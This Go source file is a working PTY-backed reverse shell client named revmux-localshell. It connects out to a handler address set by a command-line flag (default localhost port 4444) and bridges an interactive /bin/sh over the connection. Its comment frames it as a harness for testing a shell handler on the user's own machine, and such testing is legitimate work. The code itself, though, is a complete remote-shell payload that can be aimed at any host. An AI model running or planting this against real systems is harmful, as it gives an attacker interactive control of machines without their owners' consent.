// revmux-localshell dials a running handler and serves a local shell over
// the connection, PTY-backed so the stabilizer has something real to
// upgrade. It exists for end-to-end testing on a box you own.
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"

	"github.com/creack/pty"
)

var (
	flagAddr  = flag.String("connect", "127.0.0.1:4444", "handler address")
	flagShell = flag.String("shell", "/bin/sh", "shell to serve")
)

func main() {
	flag.Parse()

	if err := serve(*flagAddr, *flagShell); err != nil {
		fmt.Fprintf(os.Stderr, "revmux-localshell: %v\n", err)
		os.Exit(1)
	}
}

func serve(addr, shell string) error {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return fmt.Errorf("failed to connect to %s: %w", addr, err)
	}
	defer conn.Close()
	fmt.Printf("connected to %s, serving %s\n", addr, shell)

	cmd := exec.Command(shell)
	ptmx, err := pty.Start(cmd)
	if err != nil {
		return fmt.Errorf("failed to start %s on a pty: %w", shell, err)
	}
	defer ptmx.Close()

	done := make(chan error, 2)
	go func() {
		_, err := io.Copy(ptmx, conn)
		done <- err
	}()
	go func() {
		_, err := io.Copy(conn, ptmx)
		done <- err
	}()

	err = <-done
	cmd.Process.Kill()
	cmd.Wait()
	if err != nil && err != io.EOF {
		return fmt.Errorf("bridge closed: %w", err)
	}
	fmt.Println("disconnected")
	return nil
}
